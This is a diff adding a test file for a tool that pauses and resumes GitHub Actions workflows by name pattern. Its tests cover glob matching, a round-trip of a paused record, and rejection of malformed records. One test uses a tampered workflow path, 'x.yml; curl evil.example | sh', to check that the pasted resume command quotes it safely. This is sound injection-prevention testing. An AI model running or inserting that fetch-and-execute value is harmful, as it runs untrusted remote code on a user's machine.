@@ -1,0 +1,56 @@
+import { expect, test } from "vitest";
+import { planPause, resumeCommands } from "../../../../src/actions/deploy-hub/pause/pause-workflows.ts";
+import { formatPausedRecord, parsePausedRecord } from "../../../../src/actions/deploy-hub/pause/paused-record.ts";
+
+const FOLDER = ".github/workflows";
+const WORKFLOWS = [
+  { id: 1, path: `${FOLDER}/hub-ingest.yml`, state: "active" },
+  { id: 2, path: `${FOLDER}/hub-schedule.yml`, state: "disabled_manually" },
+  { id: 3, path: `${FOLDER}/hub-deploy.yml`, state: "active" },
+  { id: 4, path: `${FOLDER}/ci.yml`, state: "active" },
+  { id: 5, path: `${FOLDER}/my-hub-ingest.yml`, state: "active" },
+  { id: 6, path: `${FOLDER}/hub-ingest.yaml`, state: "active" },
+];
+
+const CASES = [
+  { patterns: ["hub-*.yml"], pauses: [1] },
+  { patterns: ["hub-*.yml", "hub-*.yaml"], pauses: [1, 6] },
+  { patterns: [`${FOLDER}/hub-ingest.yml`], pauses: [1] },
+  { patterns: ["HUB-INGEST.yml"], pauses: [1] },
+  { patterns: ["*"], pauses: [1, 4, 5, 6] },
+  { patterns: ["hub-ingestXyml"], pauses: [] },
+  { patterns: ["(a+)+$", "hub[.yml"], pauses: [] },
+  { patterns: [], pauses: [] },
+];
+
+test.each(CASES)(
+  "$patterns pauses the active ones of that name, and never the one that runs",
+  ({ patterns, pauses }) => {
+    const planned = planPause(WORKFLOWS, { patterns, ownPath: `${FOLDER}/hub-deploy.yml` });
+    expect(planned.map(({ id }) => id)).toEqual(pauses);
+  },
+);
+
+test("a record reads back as it was written", () => {
+  const record = {
+    repository: "contoso/costs",
+    workflows: [{ id: 7, path: `${FOLDER}/hub-ingest.yml` }],
+    run: "https://github.com/contoso/costs/actions/runs/1",
+    since: "2026-11-21T00:00:00.000Z",
+  };
+  expect(parsePausedRecord(formatPausedRecord(record))).toEqual(record);
+});
+
+test("a record that someone tampered with cannot smuggle a command into the one that people paste", () => {
+  const workflows = [{ id: 7, path: `${FOLDER}/x.yml; curl evil.example | sh` }];
+  expect(resumeCommands({ repository: "contoso/costs", workflows, run: undefined, since: "" })).toEqual([
+    "gh workflow enable 'x.yml; curl evil.example | sh' --repo contoso/costs",
+  ]);
+});
+
+test.each(["", "{", "[]", "null", '{"repository": "a/b"}', '{"repository": "a/b", "workflows": [{"id": "1; x"}]}'])(
+  "%s is no record, and stops nothing",
+  (text) => {
+    expect(parsePausedRecord(text)).toBeUndefined();
+  },
+);
